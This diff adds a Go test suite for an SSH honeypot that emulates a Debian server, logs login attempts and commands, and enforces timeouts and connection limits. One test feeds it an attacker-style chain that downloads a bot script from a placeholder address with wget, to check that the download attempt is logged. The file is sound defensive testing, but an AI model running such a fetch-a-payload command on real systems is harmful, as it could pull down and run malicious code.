@@ -1,0 +1,556 @@
+package ssh
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"runtime"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	gossh "golang.org/x/crypto/ssh"
+
+	"honeysens/app/honeypot"
+	"honeysens/app/model"
+)
+
+// sharedKeys is one host key file for the tests that do not test the keys themselves (an
+// RSA key takes a while to generate).
+var sharedKeys string
+
+func TestMain(m *testing.M) {
+	dir, err := os.MkdirTemp("", "ssh-honeypot-test")
+	if err != nil {
+		panic(err)
+	}
+	sharedKeys = filepath.Join(dir, "keys")
+	code := m.Run()
+	os.RemoveAll(dir)
+	os.Exit(code)
+}
+
+type recorder struct {
+	mu     sync.Mutex
+	events []*model.Event
+	ch     chan struct{}
+}
+
+func newRecorder() *recorder { return &recorder{ch: make(chan struct{}, 4096)} }
+
+func (r *recorder) Report(_ context.Context, e *model.Event) error {
+	r.mu.Lock()
+	r.events = append(r.events, e)
+	r.mu.Unlock()
+	r.ch <- struct{}{}
+	return nil
+}
+
+// wait returns the n-th event (1-based), failing after a generous time.
+func (r *recorder) wait(t *testing.T, n int) *model.Event {
+	t.Helper()
+	deadline := time.After(30 * time.Second)
+	for {
+		r.mu.Lock()
+		if len(r.events) >= n {
+			e := r.events[n-1]
+			r.mu.Unlock()
+			return e
+		}
+		r.mu.Unlock()
+		select {
+		case <-r.ch:
+		case <-deadline:
+			t.Fatalf("no event %d within 30s", n)
+		}
+	}
+}
+
+func (r *recorder) count() int {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return len(r.events)
+}
+
+func details(e *model.Event) string {
+	var sb strings.Builder
+	for _, d := range e.Details {
+		fmt.Fprintf(&sb, "%d %s\n", d.Type, d.Data)
+	}
+	return sb.String()
+}
+
+func mustContain(t *testing.T, what, s string, subs ...string) {
+	t.Helper()
+	for _, sub := range subs {
+		if !strings.Contains(s, sub) {
+			t.Errorf("%s lacks %q:\n%s", what, sub, s)
+		}
+	}
+}
+
+func start(t *testing.T, cfg Config, lim honeypot.Limits) (*Service, *recorder, string) {
+	t.Helper()
+	cfg.Listen = "127.0.0.1:0"
+	if cfg.HostKeyFile == "" {
+		cfg.HostKeyFile = sharedKeys
+	}
+	if cfg.Accept == nil {
+		cfg.Accept = []string{"root:secret"}
+	}
+	s := New(cfg, lim, nil)
+	rec := newRecorder()
+	if err := s.Start(rec); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(s.Stop)
+	return s, rec, s.Addr().String()
+}
+
+func needTool(t *testing.T, names ...string) {
+	t.Helper()
+	for _, n := range names {
+		if _, err := exec.LookPath(n); err != nil {
+			if os.Getenv("HONEYSENS_E2E") == "1" {
+				t.Fatalf("%s is required (HONEYSENS_E2E=1) but not installed", n)
+			}
+			t.Skipf("%s not installed; install openssh-client, sshpass and nmap (or set HONEYSENS_E2E=1 to make this fail)", n)
+		}
+	}
+}
+
+func sshArgs(addr, user string, extra ...string) []string {
+	host, port, _ := net.SplitHostPort(addr)
+	args := []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
+		"-o", "ConnectTimeout=20", "-o", "NumberOfPasswordPrompts=1", "-p", port, user + "@" + host}
+	return append(args, extra...)
+}
+
+func runSSH(t *testing.T, stdin, password, addr, user string, extra ...string) (string, error) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, "sshpass", append([]string{"-p", password, "ssh"}, sshArgs(addr, user, extra...)...)...)
+	cmd.Stdin = strings.NewReader(stdin)
+	out, err := cmd.CombinedOutput()
+	return string(out), err
+}
+
+func TestOpenSSHExec(t *testing.T) {
+	needTool(t, "ssh", "sshpass")
+	_, rec, addr := start(t, Config{}, honeypot.Limits{})
+	out, err := runSSH(t, "", "secret", addr, "root", "uname -a")
+	if err != nil {
+		t.Fatalf("ssh: %v\n%s", err, out)
+	}
+	if want := "Linux debian 6.1.0-23-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.99-1 (2024-07-15) x86_64 GNU/Linux\n"; out != want {
+		t.Fatalf("exec output %q, want %q", out, want)
+	}
+	e := rec.wait(t, 1)
+	if e.Service != "ssh" || e.Source.String() != "127.0.0.1" || e.TargetPort == 0 || e.Protocol != model.ProtoTCP {
+		t.Errorf("event header %+v", e)
+	}
+	if !strings.HasPrefix(e.Summary, "SSH: login as root with password secret") || !strings.HasSuffix(e.Summary, ", 1 command") {
+		t.Errorf("summary %q", e.Summary)
+	}
+	d := details(e)
+	mustContain(t, "details", d, "0 client version: SSH-2.0-OpenSSH_", "0 host key type: ssh-ed25519",
+		"1 login root / secret", ": accepted\n", "1 exec: uname -a\n", "1 connection closed after ", "(client disconnected)")
+	t.Logf("summary: %s\n%s", e.Summary, d)
+
+	out, err = runSSH(t, "", "secret", addr, "root", "cd /tmp; wget http://198.51.100.7/bot.sh; id")
+	if err != nil || !strings.Contains(out, "Connecting to 198.51.100.7:80... failed: Connection timed out.") || !strings.Contains(out, "uid=0(root)") {
+		t.Fatalf("exec chain: %v %q", err, out)
+	}
+	e = rec.wait(t, 2)
+	mustContain(t, "details", details(e), "download attempt (not fetched): http://198.51.100.7/bot.sh")
+	mustContain(t, "summary", e.Summary, "1 download attempt")
+}
+
+func TestOpenSSHInteractive(t *testing.T) {
+	needTool(t, "ssh", "sshpass")
+	_, rec, addr := start(t, Config{Hostname: "web01"}, honeypot.Limits{})
+	out, err := runSSH(t, "ls /\npwd\necho $HOME\nnosuch\nexit\n", "secret", addr, "root", "-tt")
+	if err != nil {
+		t.Fatalf("ssh -tt: %v\n%s", err, out)
+	}
+	mustContain(t, "session output", out,
+		"Linux web01 6.1.0-23-amd64", "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY",
+		"root@web01:~# ", "bin  boot  dev  etc", "\r\n/root\r\n", "-bash: nosuch: command not found\r\n", "logout\r\n")
+	e := rec.wait(t, 1)
+	if !strings.HasPrefix(e.Summary, "SSH: login as root with password secret") || !strings.HasSuffix(e.Summary, ", 5 commands") {
+		t.Errorf("summary %q", e.Summary)
+	}
+	mustContain(t, "details", details(e), "1 pty-req ", "1 command: ls /\n", "1 command: pwd\n", "1 command: echo $HOME\n",
+		"1 command: nosuch\n", "1 command: exit\n", "1 connection closed after")
+	t.Logf("summary: %s\n%s", e.Summary, details(e))
+
+	// no pty: a script on stdin, no prompt, no echo
+	out, err = runSSH(t, "whoami\nhostname\n", "secret", addr, "root", "-T")
+	if err != nil || out != "root\nweb01\n" {
+		t.Fatalf("ssh -T: %v %q", err, out)
+	}
+}
+
+func TestOpenSSHWrongPassword(t *testing.T) {
+	needTool(t, "ssh", "sshpass")
+	_, rec, addr := start(t, Config{}, honeypot.Limits{})
+	out, err := runSSH(t, "", "wrong", addr, "admin", "id")
+	if err == nil || strings.Contains(out, "uid=") {
+		t.Fatalf("wrong password let in: %q", out)
+	}
+	e := rec.wait(t, 1)
+	if !regexp.MustCompile(`^SSH: \d+ failed logins? as admin$`).MatchString(e.Summary) {
+		t.Errorf("summary %q", e.Summary)
+	}
+	mustContain(t, "details", details(e), "1 login admin / wrong", ": refused\n")
+	t.Logf("summary: %s\n%s", e.Summary, details(e))
+}
+
+func TestHostKeyPersistent(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "sub", "ssh_host_keys")
+	fingerprint := func() (string, string) {
+		_, _, addr := start(t, Config{HostKeyFile: path}, honeypot.Limits{})
+		var got []string
+		for _, algo := range []string{gossh.KeyAlgoED25519, gossh.KeyAlgoRSASHA512} {
+			cfg := &gossh.ClientConfig{User: "root", Auth: []gossh.AuthMethod{gossh.Password("x")}, HostKeyAlgorithms: []string{algo},
+				HostKeyCallback: func(_ string, _ net.Addr, k gossh.PublicKey) error {
+					got = append(got, gossh.FingerprintSHA256(k))
+					return fmt.Errorf("enough")
+				}, Timeout: 20 * time.Second}
+			gossh.Dial("tcp", addr, cfg)
+		}
+		if len(got) != 2 {
+			t.Fatalf("host keys seen: %v", got)
+		}
+		return got[0], got[1]
+	}
+	ed1, rsa1 := fingerprint()
+	st, err := os.Stat(path)
+	if err != nil || st.Mode().Perm() != 0o600 {
+		t.Fatalf("key file: %v %v", err, st.Mode())
+	}
+	data, _ := os.ReadFile(path)
+	if bytes.Count(data, []byte("BEGIN OPENSSH PRIVATE KEY")) != 2 {
+		t.Fatalf("key file holds %d keys", bytes.Count(data, []byte("BEGIN OPENSSH PRIVATE KEY")))
+	}
+	ed2, rsa2 := fingerprint() // a new service on the same file: a restart
+	if ed1 != ed2 || rsa1 != rsa2 || ed1 == rsa1 {
+		t.Fatalf("host keys changed across restart: %s %s / %s %s", ed1, rsa1, ed2, rsa2)
+	}
+	t.Logf("ed25519 %s, rsa %s", ed1, rsa1)
+	if needed := os.WriteFile(path, []byte("garbage"), 0o600); needed != nil {
+		t.Fatal(needed)
+	}
+	if _, err := LoadHostKeys(path); err == nil {
+		t.Fatal("a file without keys was accepted")
+	}
+}
+
+func TestNmapSeesOpenSSH(t *testing.T) {
+	needTool(t, "nmap")
+	_, rec, addr := start(t, Config{}, honeypot.Limits{})
+	_, port, _ := net.SplitHostPort(addr)
+	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
+	defer cancel()
+	out, err := exec.CommandContext(ctx, "nmap", "-sV", "-Pn", "-p", port, "127.0.0.1").CombinedOutput()
+	if err != nil {
+		t.Fatalf("nmap: %v\n%s", err, out)
+	}
+	line := regexp.MustCompile(`(?m)^` + port + `/tcp\s+open\s+ssh\s+(.*)$`).FindStringSubmatch(string(out))
+	if line == nil || !strings.Contains(line[1], "OpenSSH 9.2p1 Debian 2+deb12u3") {
+		t.Fatalf("nmap did not report OpenSSH:\n%s", out)
+	}
+	t.Logf("nmap: %s/tcp open ssh %s", port, line[1])
+	if rec.wait(t, 1) == nil {
+		t.Fatal("no event for nmap's probe")
+	}
+}
+
+func TestGoClientFeatures(t *testing.T) {
+	_, rec, addr := start(t, Config{Accept: []string{"oracle:oracle"}, AcceptAfter: 2}, honeypot.Limits{})
+	_, edKey, _ := generateTestKey()
+	dial := func(user string, auth ...gossh.AuthMethod) (*gossh.Client, error) {
+		return gossh.Dial("tcp", addr, &gossh.ClientConfig{User: user, Auth: auth, HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 20 * time.Second})
+	}
+	// public key attempts are recorded and refused, then keyboard-interactive succeeds
+	c, err := dial("oracle", gossh.PublicKeys(edKey), gossh.KeyboardInteractive(func(_, _ string, q []string, _ []bool) ([]string, error) {
+		if len(q) != 1 || q[0] != "Password: " {
+			return nil, fmt.Errorf("questions %q", q)
+		}
+		return []string{"oracle"}, nil
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	// port forwarding refused
+	if _, err := c.Dial("tcp", "10.1.2.3:3306"); err == nil {
+		t.Error("direct-tcpip accepted")
+	}
+	if _, err := c.Listen("tcp", "0.0.0.0:8081"); err == nil {
+		t.Error("tcpip-forward accepted")
+	}
+	sess, _ := c.NewSession()
+	sess.Setenv("LANG", "C.UTF-8")
+	out, err := sess.Output("id; whoami")
+	if err != nil || string(out) != "uid=1001(oracle) gid=1001(oracle) groups=1001(oracle),100(users)\noracle\n" {
+		t.Errorf("exec as oracle: %v %q", err, out)
+	}
+	sess, _ = c.NewSession()
+	if err := sess.RequestSubsystem("sftp"); err == nil {
+		t.Error("sftp accepted")
+	}
+	c.Close()
+	e := rec.wait(t, 1)
+	d := details(e)
+	mustContain(t, "details", d, "1 login oracle with public key ssh-ed25519 SHA256:", "login oracle / oracle (keyboard-interactive): accepted",
+		"1 port forwarding to 10.1.2.3:3306 (from ", "1 remote port forwarding 0.0.0.0:8081: refused", "1 env LANG=C.UTF-8",
+		"1 exec: id; whoami", "1 subsystem sftp: refused")
+	if e.Summary != "SSH: login as oracle with password oracle, 1 command" {
+		t.Errorf("summary %q", e.Summary)
+	}
+
+	// AcceptAfter: two failures from this address, then any password
+	for i := 0; i < 2; i++ {
+		if _, err := dial("root", gossh.Password(fmt.Sprintf("nope%d", i))); err == nil {
+			t.Fatalf("attempt %d accepted", i)
+		}
+	}
+	c, err = dial("root", gossh.Password("whatever"))
+	if err != nil {
+		t.Fatalf("not accepted after 2 failures: %v", err)
+	}
+	c.Close()
+	e = rec.wait(t, 4)
+	if !strings.HasPrefix(e.Summary, "SSH: login as root with password whatever") {
+		t.Errorf("summary %q", e.Summary)
+	}
+	// public key only
+	dial("git", gossh.PublicKeys(edKey))
+	e = rec.wait(t, 5)
+	if e.Summary != "SSH: 1 public key login refused for git" {
+		t.Errorf("summary %q", e.Summary)
+	}
+}
+
+func TestNotSSHAndSilentClients(t *testing.T) {
+	_, rec, addr := start(t, Config{}, honeypot.Limits{})
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	banner, _ := bufio.NewReader(c).ReadString('\n')
+	if banner != DefaultBanner+"\r\n" {
+		t.Errorf("banner %q", banner)
+	}
+	c.Write([]byte("GET / HTTP/1.0\r\n\r\n"))
+	c.Close()
+	e := rec.wait(t, 1)
+	if e.Summary != "SSH: not an SSH client" {
+		t.Errorf("summary %q", e.Summary)
+	}
+	mustContain(t, "details", details(e), "0 client sent: GET / HTTP/1.0")
+
+	c, _ = net.Dial("tcp", addr)
+	c.Close()
+	if e := rec.wait(t, 2); e.Summary != "SSH: connection closed before the SSH handshake" {
+		t.Errorf("summary %q", e.Summary)
+	}
+}
+
+func TestSlowDripCutOff(t *testing.T) {
+	_, rec, addr := start(t, Config{}, honeypot.Limits{IdleTimeout: time.Second, TotalTimeout: 2 * time.Second})
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	began := time.Now()
+	line := []byte("SSH-2.0-OpenSSH_9.6 drip drip drip drip drip drip drip drip drip drip drip drip drip drip\r\n")
+	closed := false
+	for i := 0; i < len(line) && time.Since(began) < 20*time.Second; i++ {
+		time.Sleep(300 * time.Millisecond) // within the idle timeout every time
+		if _, err := c.Write(line[i : i+1]); err != nil {
+			closed = true
+			break
+		}
+	}
+	c.SetReadDeadline(time.Now().Add(10 * time.Second))
+	_, err = c.Read(make([]byte, 4096))
+	for err == nil {
+		_, err = c.Read(make([]byte, 4096))
+	}
+	_ = closed
+	e := rec.wait(t, 1)
+	mustContain(t, "details", details(e), "(total time limit)")
+	t.Logf("slow-drip client cut after %s: %s", time.Since(began).Round(100*time.Millisecond), e.Summary)
+}
+
+func TestIdleTimeout(t *testing.T) {
+	_, rec, addr := start(t, Config{}, honeypot.Limits{IdleTimeout: 500 * time.Millisecond, TotalTimeout: time.Minute})
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	c.Write([]byte("SSH-2.0-idle\r\n"))
+	e := rec.wait(t, 1)
+	mustContain(t, "details", details(e), "(idle timeout)", "client version: SSH-2.0-idle")
+}
+
+func TestStopReportsOpenSessions(t *testing.T) {
+	s, rec, addr := start(t, Config{}, honeypot.Limits{})
+	c, err := gossh.Dial("tcp", addr, &gossh.ClientConfig{User: "root", Auth: []gossh.AuthMethod{gossh.Password("secret")}, HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 20 * time.Second})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	sess, _ := c.NewSession()
+	sess.RequestPty("xterm", 24, 80, gossh.TerminalModes{})
+	in, _ := sess.StdinPipe()
+	var out bytes.Buffer
+	sess.Stdout = &out
+	if err := sess.Shell(); err != nil {
+		t.Fatal(err)
+	}
+	in.Write([]byte("cat /etc/hostname\r"))
+	time.Sleep(200 * time.Millisecond)
+	s.Stop()
+	if rec.count() != 1 {
+		t.Fatalf("%d events after Stop", rec.count())
+	}
+	e := rec.wait(t, 1)
+	mustContain(t, "details", details(e), "1 command: cat /etc/hostname", "(service stopped)")
+	if s.Addr() != nil {
+		t.Error("address after stop")
+	}
+}
+
+func TestPerSourceLimit(t *testing.T) {
+	s, _, addr := start(t, Config{}, honeypot.Limits{MaxPerSource: 3})
+	var conns []net.Conn
+	for i := 0; i < 5; i++ {
+		c, err := net.Dial("tcp", addr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		conns = append(conns, c)
+		defer c.Close()
+	}
+	// the two over the limit are closed without a banner
+	closedCount := 0
+	for _, c := range conns {
+		c.SetReadDeadline(time.Now().Add(5 * time.Second))
+		if n, err := c.Read(make([]byte, 64)); n == 0 && err != nil {
+			closedCount++
+		}
+	}
+	if closedCount != 2 || s.guard.Open() != 3 {
+		t.Fatalf("closed %d, open %d", closedCount, s.guard.Open())
+	}
+}
+
+func TestValidate(t *testing.T) {
+	c := Config{}
+	if err := c.Validate(); err != nil || c.Listen != "127.0.0.1:2222" || c.Banner != DefaultBanner || len(c.Accept) == 0 {
+		t.Fatalf("defaults: %v %+v", err, c)
+	}
+	bad := Config{Listen: "nope", Banner: "OpenSSH", Hostname: "a b", Accept: []string{"x"}, AcceptAfter: -1}
+	err := bad.Validate()
+	me, ok := err.(*model.Error)
+	if !ok || len(me.Fields) != 5 {
+		t.Fatalf("validate: %v", err)
+	}
+	s := New(Config{Listen: "127.0.0.1:0", HostKeyFile: sharedKeys}, honeypot.Limits{}, nil)
+	if err := s.Start(newRecorder()); err != nil {
+		t.Fatal(err)
+	}
+	defer s.Stop()
+	other := New(Config{Listen: s.Addr().String(), HostKeyFile: sharedKeys}, honeypot.Limits{}, nil)
+	if err := other.Start(newRecorder()); err == nil {
+		other.Stop()
+		t.Fatal("second bind on the same port succeeded")
+	}
+}
+
+func vmRSS(t *testing.T) int64 {
+	data, err := os.ReadFile("/proc/self/status")
+	if err != nil {
+		t.Skip("no /proc/self/status")
+	}
+	for _, l := range strings.Split(string(data), "\n") {
+		if strings.HasPrefix(l, "VmRSS:") {
+			f := strings.Fields(l)
+			kb, _ := strconv.ParseInt(f[1], 10, 64)
+			return kb
+		}
+	}
+	t.Skip("no VmRSS")
+	return 0
+}
+
+// TestThousandIdleConnections holds 1,000 connections that sent their version line and
+// then idle in the key exchange, and reports the memory they take. It asserts only that all
+// are held and that the whole process stays under 200 MB.
+func TestThousandIdleConnections(t *testing.T) {
+	if testing.Short() {
+		t.Skip("short")
+	}
+	const n = 1000
+	s, _, addr := start(t, Config{}, honeypot.Limits{MaxConns: n + 10, MaxPerSource: n + 10, IdleTimeout: 5 * time.Minute, TotalTimeout: 10 * time.Minute})
+	runtime.GC()
+	before := vmRSS(t)
+	conns := make([]net.Conn, 0, n)
+	defer func() {
+		for _, c := range conns {
+			c.Close()
+		}
+	}()
+	buf := make([]byte, 64)
+	for i := 0; i < n; i++ {
+		c, err := net.Dial("tcp", addr)
+		if err != nil {
+			t.Fatalf("dial %d: %v", i, err)
+		}
+		conns = append(conns, c)
+		c.Write([]byte("SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n"))
+		// wait for the server's version line: the connection is then in the key exchange
+		c.SetReadDeadline(time.Now().Add(30 * time.Second))
+		if _, err := c.Read(buf); err != nil {
+			t.Fatalf("conn %d: %v", i, err)
+		}
+	}
+	deadline := time.Now().Add(30 * time.Second)
+	for s.guard.Open() < n && time.Now().Before(deadline) {
+		time.Sleep(50 * time.Millisecond)
+	}
+	if s.guard.Open() != n {
+		t.Fatalf("%d connections held, want %d", s.guard.Open(), n)
+	}
+	time.Sleep(500 * time.Millisecond) // let every handshake reach its idle read
+	runtime.GC()
+	after := vmRSS(t)
+	var ms runtime.MemStats
+	runtime.ReadMemStats(&ms)
+	t.Logf("1,000 idle SSH connections: process VmRSS %d KiB (before %d KiB, +%d KiB = %.1f KiB per connection; Go heap in use %d KiB, goroutines %d)",
+		after, before, after-before, float64(after-before)/n, ms.HeapInuse/1024, runtime.NumGoroutine())
+	if after > 200*1024 && !raceEnabled {
+		t.Errorf("process RSS %d KiB is over 200 MB", after)
+	}
+}
+
+func generateTestKey() (gossh.PublicKey, gossh.Signer, error) {
+	signers, err := LoadHostKeys(sharedKeys)
+	if err != nil {
+		return nil, nil, err
+	}
+	return signers[1].PublicKey(), signers[1], nil
+}
